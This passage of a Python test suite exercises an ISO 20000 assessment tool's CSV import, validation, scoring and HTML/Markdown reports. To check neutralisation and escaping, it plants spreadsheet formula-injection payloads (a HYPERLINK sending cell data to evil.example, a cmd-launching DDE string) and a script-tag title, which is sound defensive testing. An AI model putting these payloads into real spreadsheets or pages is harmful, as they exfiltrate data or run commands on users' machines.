    qpath, epath, out = work('q.csv'), work('e.csv'), work('out.json')
    ev_header = ['id', 'title', 'kind', 'collected', 'expires', 'uri', 'sha256', 'by', 'note']

    # an evidence cell longer than the old 8 KiB buffer: the last id was cut from E1234 to E12
    cell = 'E1' + ' ' * 8187 + 'E1234'
    write_csv(epath, [ev_header, ['E1', 'One', 'record', '2026-01-10'] + [''] * 5,
                      ['E12', 'Twelve', 'record', '2026-01-10'] + [''] * 5,
                      ['E1234', 'Long id', 'record', '2026-01-10'] + [''] * 5])
    write_csv(qpath, [['id', 'rating', 'evidence'], ['8.6.1-01', 'F', cell]])
    r = expect(run(*import_args(qpath, '--evidence', epath, '-o', out)), 0, 'import of a long evidence cell')
    a = read_json(out)
    check(first(a, 'ratings').get('evidence') == ['E1', 'E1234'], 'a long evidence cell keeps its last id whole', a.get('ratings'))

    # a 5000-byte title with a two-byte character where the old 4 KiB buffer cut it
    title = 'T' * 4094 + '\u00e9' + 'x' * 904
    note = '\u20ac' * 1700  # 5100 bytes
    write_csv(epath, [ev_header, ['E1', title, 'document', '2026-01-10', '', '', '', '', note]])
    write_csv(qpath, [['id', 'rating', 'evidence', 'note'], ['8.6.1-01', 'F', 'E1', note]])
    r = expect(run(*import_args(qpath, '--evidence', epath, '-o', out)), 0, 'import of long multi-byte cells')
    a = read_json(out)
    check(first(a, 'evidence').get('title') == title, 'a 5000-byte title is kept whole')
    check(first(a, 'evidence').get('note') == note and first(a, 'ratings').get('note') == note, '5100-byte notes are kept whole')
    # a 5000-character id is refused, said so, and shown shortened with its length
    write_csv(epath, [ev_header, ['E' + '9' * 4999, 'Long', 'document', '2026-01-10'] + [''] * 5])
    r = expect(run(*import_args(qpath, '--evidence', epath)), 1, 'a 5000-character evidence id')
    check(re.search(r'e\.csv:2:1: column "id": "E9+\.\.\." \(5000 bytes\) "" is not an identifier', r.err),
          'a long id is refused and shown shortened, with its length', r)

    # NUL and invalid UTF-8 are refused at their line and column
    with open(qpath, 'wb') as f:
        f.write(b'id,rating,note\n8.6.1-01,F,ab\x00cd\n')
    r = expect(run(*import_args(qpath)), 1, 'a NUL byte in a cell')
    check('%s:2:14: a NUL byte is not allowed' % qpath in r.err, 'NUL refused at its position', r)
    with open(qpath, 'wb') as f:
        f.write(b'id,rating,note\r\n8.6.1-01,F,"caf\xc3\xa9 ok"\r\n8.6.1-02,F,caf\xe9\r\n')
    r = expect(run(*import_args(qpath)), 1, 'invalid UTF-8 in a cell')
    check('%s:3:15: invalid UTF-8' % qpath in r.err, 'invalid UTF-8 refused at its position', r)
    with open(qpath, 'wb') as f:
        f.write(b'id,rating,note\n8.6.1-01,F,"\xed\xa0\x80"\n')
    r = expect(run(*import_args(qpath)), 1, 'an encoded surrogate')
    check('%s:2:13: invalid UTF-8' % qpath in r.err, 'surrogates are invalid UTF-8', r)

    # a European spreadsheet: ';' separators, decimal commas; BOM, CRLF and a quoted newline
    with open(qpath, 'w', encoding='utf-8-sig', newline='') as f:
        f.write('type;id;rating;evidence;note\r\nrequirement;8.6.1-01;72,5;;"zwei\r\nZeilen; mit ""Semikolon"""\r\n'
                'requirement;8.6.1-02;l+;;\r\n')
    r = expect(run(*import_args(qpath, '-o', out)), 0, 'a ;-separated questionnaire')
    a = read_json(out)
    check([(x['requirement'], x['rating'], x.get('note')) for x in a.get('ratings', [])] ==
          [('8.6.1-01', 72.5, 'zwei\nZeilen; mit "Semikolon"'), ('8.6.1-02', 'L+', None)],
          'separator found from the header row; decimal comma; quoted newline and quotes', a.get('ratings'))
    with open(qpath, 'w', encoding='utf-8', newline='') as f:
        f.write('id\trating\tnote\n8.6.1-01\tF\ta, b; c\n')
    r = expect(run(*import_args(qpath, '-o', out)), 0, 'a tab-separated questionnaire')
    a = read_json(out)
    check(first(a, 'ratings').get('note') == 'a, b; c', 'tab separator found', a.get('ratings'))
    # --delimiter overrides the guess (a one-column header gives none)
    with open(qpath, 'w', encoding='utf-8', newline='') as f:
        f.write('id;rating\n8.6.1-01;F\n')
    r = expect(run(*import_args(qpath, '--delimiter', ',')), 1, 'a ;-file read with --delimiter ,')
    check('the header row has no "id" column (are the columns separated by another character?' in r.err,
          'a hint at the separator', r)
    expect(run(*import_args(qpath, '--delimiter', ';', '-o', out)), 0, '--delimiter ;')
    expect(run(*import_args(qpath, '--delimiter', '|')), 2, 'a bad --delimiter')

    # one evidence record with a bad date, cited by 40 ratings: the cause once, with the count
    write_csv(epath, [ev_header, ['E1', 'Policy', 'document', '2026-02-30'] + [''] * 5,
                      ['E2', 'Tickets', 'record', '2026-01-10'] + [''] * 5])
    t = run('template', 'iso20000-1:2018', '--format', 'csv')
    ids = [row[1] for row in read_csv_text(t.out)[1:] if row[0] == 'requirement'][:40]
    write_csv(qpath, [['id', 'rating', 'evidence']] + [[i, 'F', 'E1 E2'] for i in ids])
    r = expect(run(*import_args(qpath, '--evidence', epath)), 1, 'a bad evidence date cited 40 times')
    lines = problem_lines(r)
    check(len(lines) == 2, 'two problems: the bad date and the rows it affects', r)
    check(lines and lines[0].startswith('%s:2:' % epath) and 'expected a date YYYY-MM-DD, not "2026-02-30"' in lines[0],
          'the cause', r)
    check(len(lines) > 1 and lines[1].startswith('%s:2:1: evidence "E1" was left out' % epath) and
          '40 rows of %s cite it (the first on line 2)' % qpath in lines[1], 'one line with the count', r)
    check('2 problems found; nothing was written' in r.err, 'the summary counts two', r)
    # an id that no record has, cited 40 times: one problem at its first citation
    write_csv(qpath, [['id', 'rating', 'evidence']] + [[i, 'F', 'E2 E404'] for i in ids])
    r = expect(run(*import_args(qpath, '--evidence', epath)), 1, 'a missing evidence id cited 40 times')
    lines = [l for l in problem_lines(r) if not l.startswith(epath)]
    check(len(lines) == 1 and lines[0].startswith('%s:2:' % qpath) and
          'no evidence record "E404" in the evidence list; 40 rows cite it (the first here)' in lines[0],
          'one problem for the missing id', r)

    # formulas: the template neutralises cells a spreadsheet would run, keeps numbers numeric
    cat = json.load(open(MINI_CAT, encoding='utf-8'))
    reqs = cat['sections'][0]['requirements']
    reqs[0]['text'] = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    reqs[1]['text'] = '@SUM(1+1)*cmd|\' /C calc\'!A0'
    cat['sections'][1]['sections'][0]['requirements'][0]['text'] = '+1 call back'
    cat['sections'][1]['sections'][0]['requirements'][1]['text'] = '-2'
    cat['sections'][1]['sections'][0]['title'] = '\tTabbed'
    fcat = work('formula-catalogue.json')
    with open(fcat, 'w', encoding='utf-8') as f:
        json.dump(cat, f)
    r = expect(run('template', fcat, '--format', 'csv'), 0, 'template of a catalogue with formula texts')
    check('"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"' in r.out, '= neutralised and quoted', r)
    check('"\'@SUM(1+1)*cmd|\' /C calc\'!A0"' in r.out and '"\'+1 call back"' in r.out, '@ and + neutralised', r)
    check(',-2,' in r.out and "'-2" not in r.out, 'a plain number stays a number', r)
    for row in read_csv_text(r.out)[1:]:
        for c in row:
            check(not c or c[0] not in '=+-@\t\r' or re.match(r'^[+-]?\d+(\.\d+)?$', c), 'no live formula cell', row)

    # round trip: an assessment with formula-like texts -> evidence sheet and questionnaire
    # (--from) -> import gives the same evidence, ratings, attributes, exclusions and targets
    q4 = json.load(open(Q4, encoding='utf-8'))
    q4['evidence'][0]['title'] = '=1+2 and more'
    q4['evidence'][1]['note'] = '-minus first'
    q4['evidence'][2]['by'] = '@team'
    q4['ratings'][0]['note'] = '+plus, with a comma\nand a line'
    q4['ratings'][1]['note'] = "'=already quoted once"
    q4['targets'] = {'processes': {'8.6.1': 3, '8.5.1': 2}}
    src_path = work('formula-q4.json')
    with open(src_path, 'w', encoding='utf-8') as f:
        json.dump(q4, f)
    expect(run('validate', src_path), 0, 'the doctored sample is valid')
    r = expect(run('template', '--format', 'evidence-csv', '--from', src_path, '-o', epath), 0,
               'evidence sheet from an assessment')
    text = open(epath, encoding='utf-8-sig').read()
    check('"\'=1+2 and more"' in text and '"\'-minus first"' in text and '"\'@team"' in text,
          'evidence cells neutralised', text[:400])
    r = expect(run('template', 'iso20000-1:2018', '--format', 'csv', '--from', src_path, '--delimiter', ';',
                   '-o', qpath), 0, 'questionnaire from an assessment, ;-separated')
    text = open(qpath, encoding='utf-8-sig').read()
    check(text.startswith('type;id;') and '"\'+plus, with a comma\r\n' not in text, 'a ;-separated questionnaire', text[:200])
    r = expect(run('import', qpath, '--evidence', epath, '--catalogue', 'iso20000-1:2018', '--id', q4['id'],
                   '--date', q4['date'], '-o', out), 0, 'import of the round trip')
    got = read_json(out)
    for key in ('evidence', 'ratings', 'attributes', 'scope', 'targets'):
        check(got.get(key) == q4.get(key), 'round trip keeps %s' % key,
              None if got.get(key) == q4.get(key) else '%r\n!=\n%r' % (got.get(key), q4.get(key)))


def test_validate():
    r = expect(run('validate', Q3, Q4), 0, 'validate the samples')
    check(r.out == '%s: valid itsma-assessment/1\n%s: valid itsma-assessment/1\n' % (Q3, Q4), 'valid lines', r)
    r = expect(run('validate', '-q', Q3), 0, 'validate -q')
    check(r.out == '', 'quiet', r)
    r = expect(run('validate', src('data', 'catalogues', 'iso20000-1-2018.json')), 0, 'validate a catalogue')
    check('valid itsma-catalogue/1' in r.out, 'catalogue recognised', r)

    f = data('syntax-error.json')
    r = expect(run('validate', f), 1, 'syntax error')
    check(r.err.startswith('%s:5:3: ' % f), 'syntax error as file:line:column', r)
    f = data('schema-error.json')
    r = expect(run('validate', f), 1, 'schema error')
    check(r.err.startswith('%s:7:44: /ratings/0/rating: expected a rating' % f), 'schema error with its pointer', r)

    f = data('many-problems.json')
    r = expect(run('validate', f), 1, 'several problems')
    lines = [l for l in r.err.splitlines() if l.startswith(f)]
    check(len(lines) == 5, 'every problem is listed, not only the first (%d)' % len(lines), r)
    for ptr in ('/evidence/0/collected', '/ratings/1/requirement', '/ratings/2/evidence/0',
                '/ratings/3/rating', '/attributes/0/process'):
        check(any((': %s: ' % ptr) in l for l in lines), 'problem at %s' % ptr, r)
    check(any('EV-404' in l for l in lines), 'the dangling evidence reference is named', r)
    check(any('8.6.1-99' in l for l in lines), 'the dangling requirement reference is named', r)
    check('5 problems in 1 of 1 file' in r.err, 'problem count', r)

    # a catalogue on the same command line serves the assessment naming its id
    r = expect(run('validate', MINI_CAT, MINI), 0, 'catalogue and assessment together')
    r = expect(run('validate', '--catalogue', MINI_CAT, MINI), 0, 'assessment with --catalogue')
    r = expect(run('validate', MINI), 1, 'assessment of a catalogue that is not built in')
    check('/catalogue:' in r.err, 'names the catalogue member', r)
    r = expect(run('validate', Q4, data('syntax-error.json'), data('schema-error.json')), 1, 'mixed files')
    check('2 problems in 2 of 3 files' in r.err and 'valid itsma-assessment/1' in r.out, 'mixed summary', r)
    bad = work('not-itsma.json')
    with open(bad, 'w') as fh:
        fh.write('{"format": "something/9"}\n')
    r = expect(run('validate', bad), 1, 'unknown format')
    check(r.err.startswith(bad), 'unknown format names the file', r)
    r = expect(run('validate', work('missing.json')), 1, 'missing file')
    check('missing.json' in r.err, 'missing file is named', r)
    expect(run('validate'), 2, 'validate without files')
    expect(run('validate', '--catalogue', 'nope:1', Q4), 1, 'unknown --catalogue')

    # mapping sets (itsma-mapping/1) too, their catalogues found as an assessment's are
    old_cat, new_cat, mapping = mdata('old-catalogue.json'), mdata('new-catalogue.json'), mdata('mapping.json')
    r = expect(run('validate', old_cat, new_cat, mapping), 0, 'validate a mapping with its catalogues')
    check('%s: valid itsma-mapping/1' % mapping in r.out, 'mapping recognised', r)
    r = expect(run('validate', '--catalogue', new_cat, old_cat, mapping), 0, 'mapping: --catalogue serves one side')
    check('%s: valid itsma-mapping/1' % mapping in r.out, 'mapping valid with --catalogue', r)
    r = expect(run('validate', src('data', 'mappings', 'iso20000-1-2011-to-2018.json')),
               0, 'the built-in mapping against the built-in catalogues')
    check('valid itsma-mapping/1' in r.out, 'built-in mapping valid', r)
    r = expect(run('validate', mapping), 1, 'a mapping whose catalogues are not built in')
    check(re.search(re.escape(mapping) + r':\d+:\d+: /source/catalogue: cannot find catalogue "test:old"', r.err),
          'unknown catalogue with line, column and pointer', r)
    doc = json.load(open(mapping))
    doc['maps'][0]['relationship'] = 'same-as'
    doc['maps'][3]['targets'] = ['Q-99']
    bad = work('bad-mapping.json')
    with open(bad, 'w') as f:
        f.write(json.dumps(doc, indent=2) + '\n')
    r = expect(run('validate', old_cat, new_cat, bad), 1, 'a broken mapping')
    lines = [l for l in r.err.splitlines() if l.startswith(bad)]
    check(len(lines) == 2, 'both problems listed', r)
    check(re.match(re.escape(bad) + r':\d+:\d+: /maps/0/relationship: expected "equal-to"', lines[0] if lines else ''),
          'relationship problem located', r)
    check(any(re.match(re.escape(bad) + r':\d+:\d+: /maps/3/targets/0: catalogue "test:new" has no requirement', l)
              for l in lines), 'unknown target located', r)
    check('2 problems in 1 of 3 files' in r.err, 'problem count', r)


# ---- score -----------------------------------------------------------------------------------------

def test_score():
    r = expect(run('score', Q4), 0, 'score')
    golden('acme-2026-q4.result.json', r.out)
    res = json.loads(r.out)
    check(res['format'] == 'itsma-result/1' and res['summary']['verdict'] == 'nonconformant', 'result', res['summary'])
    check(run('score', Q4).out == r.out, 'scoring twice gives the same bytes')
    out = work('score.json')
    r2 = expect(run('score', Q4, '-o', out), 0, 'score -o')
    check(r2.out == '' and open(out, encoding='utf-8').read() == r.out, 'score -o writes the same JSON')

    # gates: overall compliance of the Q4 sample is 68.3%, its verdict nonconformant
    expect(run('score', '--fail-under', '68', Q4), 0, '--fail-under below the figure')
    r = expect(run('score', '--fail-under', '69', Q4), 3, '--fail-under above the figure')
    check(json.loads(r.out)['format'] == 'itsma-result/1', 'JSON still written when short', r)
    check('compliance 68.3% is below the 69% required by --fail-under' in r.err, 'fail-under message', r)
    expect(run('score', '--fail-under', '0', Q4), 0, '--fail-under 0')
    expect(run('score', '--require-verdict', 'nonconformant', Q4), 0, '--require-verdict nonconformant')
    for v in ('incomplete', 'conditional', 'conformant'):
        r = expect(run('score', '--require-verdict', v, Q4), 3, '--require-verdict %s' % v)
        check('the verdict is nonconformant, worse than the %s required' % v in r.err, 'verdict message', r)
    r = expect(run('score', '--require-verdict', 'incomplete', '--fail-under', '50', Q4), 3, 'both gates')
    expect(run('score', '--fail-under', '101', Q4), 2, '--fail-under over 100')
    expect(run('score', '--fail-under', '-5', Q4), 2, 'negative --fail-under')
    expect(run('score', '--require-verdict', 'great', Q4), 2, 'unknown verdict')

    # options
    adv = json.loads(expect(run('score', '--evidence-policy', 'advisory', Q4), 0, 'advisory').out)
    check(adv['policy']['evidence'] == 'advisory' and adv['summary']['requirements']['unsupported'] == 4 and
          adv['summary']['compliance']['default'] > res['summary']['compliance']['default'],
          'advisory counts unsupported ratings', adv['summary'])
    expect(run('score', '--evidence-policy', 'lenient', Q4), 2, 'unknown policy')
    sec = json.loads(expect(run('score', '--section', '8.6', Q4), 0, '--section').out)
    check(sec['summary']['requirements']['total'] == 49, 'a section scored alone', sec['summary'])
    r = expect(run('score', '--section', '8.99', Q4), 1, 'unknown section')
    check('8.99' in r.err, 'unknown section named', r)
    r = expect(run('score', '--catalogue', MINI_CAT, MINI), 0, 'score with --catalogue FILE')
    mini = json.loads(r.out)
    check(mini['summary']['requirements']['excluded'] == 1, 'mini exclusions', mini['summary'])
    r = expect(run('score', MINI), 1, 'score without the catalogue it needs')
    check('hint: name the catalogue file with --catalogue FILE' in r.err or '/catalogue' in r.err, 'hint', r)
    r = expect(run('score', '--catalogue', 'iso20000-1:2011', Q4), 1, 'wrong catalogue')
    check(re.search(r'acme-2026-q4\.json:\d+:\d+: /catalogue: ', r.err), 'wrong catalogue pointer', r)
    r = expect(run('score', data('syntax-error.json')), 1, 'syntax error')
    check(re.search(r'syntax-error\.json:5:3: ', r.err), 'file:line:column', r)
    r = expect(run('score', data('schema-error.json')), 1, 'schema error')
    check(re.search(r'schema-error\.json:7:44: /ratings/0/rating: ', r.err), 'file:line:column: /pointer', r)
    r = expect(run('score', data('many-problems.json')), 1, 'dangling references (first problem)')
    r = expect(run('score', work('nothing-here.json')), 1, 'missing file')
    check('nothing-here.json' in r.err, 'missing file named', r)
    expect(run('score'), 2, 'score without a file')
    expect(run('score', Q3, Q4), 2, 'two files')


# ---- reports ---------------------------------------------------------------------------------------

class Page(html.parser.HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.attrs, self.stack, self.svgs = [], [], [], []
        self.text, self.style, self.script = [], [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs.append((tag, dict(attrs)))
        if tag == 'svg':
            self.svgs.append({'class': dict(attrs).get('class', ''), 'tags': []})
        elif self.svgs and 'svg' in self.stack:
            self.svgs[-1]['tags'].append(tag)
        if tag not in ('meta', 'br', 'input', 'img', 'link', 'circle', 'rect', 'line', 'polygon', 'path'):
            self.stack.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        if self.stack and self.stack[-1] == tag:
            self.stack.pop()

    def handle_endtag(self, tag):
        if tag in self.stack:
            while self.stack and self.stack.pop() != tag:
                pass

    def handle_data(self, d):
        where = self.stack[-1] if self.stack else ''
        (self.style if where == 'style' else self.script if where == 'script' else self.text).append(d)


def parse_page(text):
    p = Page()
    p.feed(text)
    p.close()
    return p


def check_self_contained(p, what):
    for tag, attrs in p.attrs:
        check(tag not in ('link', 'img', 'iframe', 'object', 'embed', 'source', 'base', 'audio', 'video'),
              '%s: no <%s> element' % (what, tag))
        for name, value in attrs.items():
            if name in ('xmlns',) or value is None:
                continue
            if name in ('src', 'href', 'xlink:href', 'action', 'data', 'poster', 'srcset'):
                check(False, '%s: no %s= reference (%s)' % (what, name, value))
            check(not re.match(r'\s*(https?:|//|ftp:)', value), '%s: no external reference in %s=%r' % (what, name, value))
    css = ''.join(p.style)
    check('url(' not in css and '@import' not in css, '%s: CSS loads nothing' % what)
    js = ''.join(p.script)
    check(not re.search(r'fetch\(|XMLHttpRequest|import\(|\bsrc\b', js), '%s: script loads nothing' % what)


def test_report():
    # Markdown, CSV and JSON of the sample data against golden files
    r = expect(run('report', Q4, '--format', 'md', '--baseline', Q3), 0, 'md report with baseline')
    golden('acme-2026-q4.md', r.out)
    md = r.out
    for piece in ('## Verdict: nonconformant', '| **Overall** (weighted by clause) | 68.3% |',
                  '## Capability profile', '## Top 10 gaps: what to fix first', '## Nonconformities',
                  '### Major (37)', '## Evidence issues (4)', '## Changes since 2026-08-20',
                  '| Compliance, overall | 49.2% | 68.3% | +19.1 |', '### Improved (484)',
                  '### Regressed (31)', 'Guidance: ITIL 4: Capacity and performance management'):
        check(piece in md, 'md report has %r' % piece)
    r = expect(run('report', Q4, '--format', 'csv'), 0, 'csv report')
    golden('acme-2026-q4.csv', r.out)
    rows = read_csv_text(r.out)
    check(rows[0] == ['id', 'clause', 'process', 'obligation', 'status', 'achievement', 'rating',
                      'nonconformity', 'gain'], 'csv header', rows[0])
    check(len(rows) == 540, 'one row per requirement')
    row = [x for x in rows if x[0] == '9.2-07'][0]
    check(row == ['9.2-07', '9.2', '', 'shall', 'unsupported', '0', 'N', 'major', '0.2332'], 'csv row of 9.2-07', row)
    total_gain = sum(float(x[8]) for x in rows[1:])
    check(abs(total_gain - (100 - 68.30685131195335)) < 0.05, 'gains add up to 100 - compliance (%f)' % total_gain)
    r = expect(run('report', Q4, '--format', 'json'), 0, 'json report')
    check(r.out == run('score', Q4).out, 'json report is the itsma-result/1 of score')

    # text: for people, coloured only on a terminal
    r = expect(run('report', Q4), 0, 'text report')
    for piece in ('Verdict          nonconformant', 'Compliance       68.3% overall', 'Compliance by clause',
                  'Capability profile (level / target)', 'Top 10 gaps', 'Major nonconformities (37)',
                  'Evidence issues (4)'):
        check(piece in r.out, 'text report has %r' % piece, r)
    check('\x1b[' not in r.out, 'no colour when piped', r)
    rc, out = run_tty('report', Q4)
    check(rc == 0 and '\x1b[' in out, 'colour on a terminal')
    rc, out = run_tty('report', Q4, env={'NO_COLOR': '1'})
    check(rc == 0 and '\x1b[' not in out and 'Compliance by clause' in out, 'NO_COLOR respected on a terminal')
    rc, out = run_tty('report', Q4, env={'TERM': 'dumb'})
    check(rc == 0 and '\x1b[' not in out, 'no colour on a dumb terminal')
    r = expect(run('report', Q4, '--baseline', Q3, '--top', '3'), 0, 'text with baseline')
    check('Since 2026-08-20 (acme-2026-q3)' in r.out and 'Top 3 gaps' in r.out, 'text baseline and --top', r)

    # -o: the format follows the extension
    for ext, probe in (('md', '# Acme'), ('html', '<!DOCTYPE html>'), ('csv', 'id,clause,'),
                       ('json', '{\n  "format": "itsma-result/1"'), ('txt', 'Acme IT Services: ')):
        out = work('report.' + ext)
        r = expect(run('report', Q4, '-o', out), 0, 'report -o *.%s' % ext)
        text = open(out, encoding='utf-8').read()
        check(text.startswith(probe) and '\x1b[' not in text, 'report -o *.%s is %s' % (ext, probe), r)
    out = work('report.anything')
    expect(run('report', Q4, '-o', out, '--format', 'md'), 0, '--format wins over the extension')
    check(open(out, encoding='utf-8').read().startswith('# Acme'), '--format md to any file')

    # HTML: one self-contained page with its charts
    r = expect(run('report', Q4, '--format', 'html', '--baseline', Q3), 0, 'html with baseline')
    check_csp(r.out, 'html with baseline')
    p = parse_page(r.out)
    check_self_contained(p, 'html report')
    check(r.out.startswith('<!DOCTYPE html>') and p.tags.count('script') == 1 and p.tags.count('style') == 1,
          'one inline style sheet and one inline script')
    radar = [s for s in p.svgs if 'radar' in s['class']]
    bars = [s for s in p.svgs if 'bars' in s['class']]
    check(len(radar) == 1, 'one radar chart')
    check(len(bars) == 2, 'a clause bar chart and a before/after chart')
    if radar:
        check(radar[0]['tags'].count('circle') == 21, 'a radar point per process')
        check(radar[0]['tags'].count('polygon') == 5 + 3, 'five level rings, level, target and baseline polygons')
        check(radar[0]['tags'].count('title') >= 22, 'radar marks carry their figures')
    if len(bars) == 2:
        check(bars[0]['tags'].count('rect') == 4 + 7, 'band backgrounds and a bar per clause group')
        check(bars[1]['tags'].count('rect') == 4 + 2 * 7 + 2, 'before and after bars per group, and a legend')
    text = ''.join(p.text)
    for piece in ('Capability profile', 'Compliance by clause', 'Changes since 2026-08-20', 'Top 10 gaps',
                  'Nonconformities (341)', 'Evidence issues (4)', 'All requirements (539)'):
        check(piece in text, 'html has %r' % piece)
    check('@media print' in ''.join(p.style), 'print styles')
    check(sum(1 for t, a in p.attrs if t == 'table' and 'sortable' in a.get('class', '')) >= 5, 'sortable tables')
    r = expect(run('report', Q4, '--format', 'html'), 0, 'html without baseline')
    p = parse_page(r.out)
    check(len([s for s in p.svgs if 'bars' in s['class']]) == 1 and 'Changes since' not in ''.join(p.text),
          'no comparison without a baseline')

    # everything from the assessment is escaped
    r = expect(run('report', '--catalogue', MINI_CAT, MINI, '--format', 'html'), 0, 'html of the mini assessment')
    p = parse_page(r.out)
    check(p.tags.count('script') == 1, 'a title with <script> does not become a script', r)
    check('Mini "test" assessment <script>alert(1)</script>' in ''.join(p.text), 'the title is shown as text')
    check_self_contained(p, 'mini html')
    r = expect(run('report', '--catalogue', MINI_CAT, MINI, '--format', 'md'), 0, 'md of the mini assessment')
    check('# Mini "test" assessment \\<script\\>alert(1)\\</script\\>' in r.out, 'md escapes the title', r)
    check('| Organisation | Example & Co \\| \\*bold\\* |' in r.out, 'md escapes table cells', r)
    r = expect(run('report', '--catalogue', MINI_CAT, MINI, '--format', 'csv'), 0, 'csv of the mini assessment')
    rows = read_csv_text(r.out)
    excluded = [x for x in rows if x[0] == 'B.2-01'][0]
    check(excluded[4:] == ['excluded', '', '', '', ''], 'excluded requirement has empty figures', excluded)

    # errors
    expect(run('report'), 2, 'report without a file')
    expect(run('report', Q4, '--format', 'pdf'), 2, 'bad format')
    expect(run('report', Q4, '--top', 'many'), 2, 'bad --top')
    expect(run('report', Q4, '--evidence-policy', 'x'), 2, 'bad policy')
    r = expect(run('report', Q4, '--baseline', work('missing.json')), 1, 'missing baseline')
    r = expect(run('report', Q4, '--baseline', other_catalogue_assessment()), 1, 'baseline of another catalogue')
    check('iso20000-1:2011' in r.err, 'catalogue mismatch named', r)
    r = expect(run('report', data('schema-error.json')), 1, 'invalid assessment')
    check(re.search(r'schema-error\.json:7:44: /ratings/0/rating: ', r.err), 'error position', r)
    r = expect(run('report', Q4, '-o', work('no-such-dir', 'r.md')), 1, 'unwritable output')
    r = expect(run('report', Q4, '--section', '8.6', '--format', 'md'), 0, 'report on a section')
    check('| Scope | section 8.6 Resolution and fulfilment only |' in r.out, 'scope shown', r)
    r = expect(run('report', Q4, '--evidence-policy', 'advisory', '--top', '0', '--format', 'md'), 0, 'advisory, no gaps')
    check('advisory' in r.out and '## Top' not in r.out, 'advisory report without gap list', r)


# ---- compare ---------------------------------------------------------------------------------------

def other_catalogue_assessment():
    path = work('iso2011.json')
    with open(path, 'w') as fh:
        json.dump({'format': 'itsma-assessment/1', 'id': 'old-edition', 'catalogue': 'iso20000-1:2011',
                   'date': '2026-01-01'}, fh)
    return path


def test_compare():
    r = expect(run('compare', Q3, Q4), 0, 'compare (JSON when not on a terminal)')
    d = json.loads(r.out)
    check(d.get('format') == 'itsma-diff/1', 'itsma-diff/1', d.get('format'))
    r2 = expect(run('compare', Q3, Q4, '--format', 'json'), 0, 'compare --format json')
    check(r2.out == r.out, 'same JSON')
    r = expect(run('compare', Q3, Q4, '--format', 'text'), 0, 'compare text')
    for piece in ('Comparison acme-2026-q3 (2026-08-20)', 'Verdict           nonconformant',
                  'overall             49.2%     68.3%     +19.1', '484 improved, 31 regressed',
                  'Capability levels that changed', 'Improved (484, largest change first)'):
        check(piece in r.out, 'compare text has %r' % piece, r)
    check('... and 469 more' in r.out, 'text lists are capped at 15 by default', r)
    r = expect(run('compare', Q3, Q4, '--format', 'text', '--limit', '0'), 0, 'compare --limit 0')
    check('... and' not in r.out and r.out.count('\n') > 500, 'every change listed with --limit 0', r)
    r = expect(run('compare', Q3, Q4, '--format', 'text', '--limit', '2'), 0, 'compare --limit 2')
    check('... and 482 more' in r.out and '... and 29 more' in r.out, '--limit 2', r)
    expect(run('compare', Q3, Q4, '--limit', 'some'), 2, 'bad --limit')
    rc, out = run_tty('compare', Q3, Q4)
    check(rc == 0 and 'Comparison' in out and '\x1b[' in out, 'text with colour on a terminal')
    r = expect(run('compare', Q3, Q4, '--format', 'md'), 0, 'compare md')
    for piece in ('# Comparison of acme-2026-q3 (2026-08-20) with acme-2026-q4 (2026-11-20)',
                  '| Compliance, overall | 49.2% | 68.3% | +19.1 |', '## Capability levels', '## Improved (484)',
                  '## Regressed (31)', '## Nonconformities that changed'):
        check(piece in r.out, 'compare md has %r' % piece, r)
    out = work('changes.md')
    expect(run('compare', Q3, Q4, '-o', out), 0, 'compare -o *.md')
    check(open(out, encoding='utf-8').read().startswith('# Comparison'), '-o .md gives Markdown')
    r = expect(run('compare', Q4, Q4, '--format', 'text'), 0, 'an assessment with itself')
    check('0 improved, 0 regressed, 539 unchanged' in r.out, 'nothing changed', r)
    r = expect(run('compare', '--catalogue', MINI_CAT, MINI, MINI, '--evidence-policy', 'advisory'), 0,
               'compare with --catalogue and a policy')
    r = expect(run('compare', other_catalogue_assessment(), Q4), 1, 'assessments of different catalogues')
    check('iso20000-1:2011' in r.err and 'iso20000-1:2018' in r.err, 'both catalogue ids named', r)
    expect(run('compare', Q3), 2, 'one file')
    expect(run('compare', Q3, Q4, Q4), 2, 'three files')
    expect(run('compare', Q3, Q4, '--format', 'html'), 2, 'bad format')
    r = expect(run('compare', Q3, data('syntax-error.json')), 1, 'broken after')
    check(re.search(r'syntax-error\.json:5:3: ', r.err), 'error position', r)


# ---- explain ---------------------------------------------------------------------------------------

def test_explain():
    r = expect(run('explain', Q4, '8.4.3-01'), 0, 'explain a requirement')
    for piece in ('Requirement 8.4.3-01 (shall)', 'EV-843-1', 'is not current', 'expired on 2026-10-31',
                  'Status: unsupported', 'Nonconformity: major'):
        check(piece in r.out, 'explanation mentions %r' % piece, r)
    r = expect(run('explain', Q4, '8.6.1'), 0, 'explain a process')
    check('Section 8.6.1' in r.out and 'capability' in r.out.lower() and 'weight' in r.out, 'process explanation', r)
    r = expect(run('explain', '--evidence-policy', 'advisory', Q4, '8.4.3-01'), 0, 'explain under advisory')
    check('advisory' in r.out, 'advisory explained', r)
    r = expect(run('explain', '--catalogue', MINI_CAT, MINI, 'B.2-01'), 0, 'explain an excluded requirement')
    check('exclu' in r.out, 'exclusion explained', r)
    r = expect(run('explain', Q4, 'no-such-id'), 1, 'unknown id')
    check('no requirement or section "no-such-id" in catalogue iso20000-1:2018' in r.err, 'unknown id message', r)
    expect(run('explain', Q4), 2, 'explain without an id')
    expect(run('explain', Q4, 'a', 'b'), 2, 'explain with too many arguments')
    expect(run('explain', Q4, '8.6.1', '--evidence-policy', 'x'), 2, 'bad policy')
    r = expect(run('explain', data('schema-error.json'), '8.6.1-01'), 1, 'invalid assessment')


# ---- evidence verify ------------------------------------------------------------------------------

def test_evidence():
    f = data('evidence-assessment.json')
    r = expect(run('evidence', 'verify', f, '--catalogue', MINI_CAT), 1, 'verify with problems (root: its folder)')
    lines = r.out.splitlines()
    root = os.path.dirname(f)
    check(('ok        E-OK         %s/evidence/policy.txt' % root) in lines, 'a matching file', r)
    check(('ok        E-SPACE      %s/evidence/tickets export.csv' % root) in lines, 'a percent-encoded uri', r)
    check(any(l.startswith('CHANGED   E-TAMPERED ') and 'sha256 is 2112cb36' in l and
              'the assessment records 62caa137' in l for l in lines), 'a tampered file', r)
    check(any(l.startswith('MISSING   E-MISSING ') and 'audit-report.pdf' in l for l in lines), 'a missing file', r)
    check(any(l.startswith('REFUSED   E-ESCAPE ') for l in lines), 'a uri leaving the root', r)
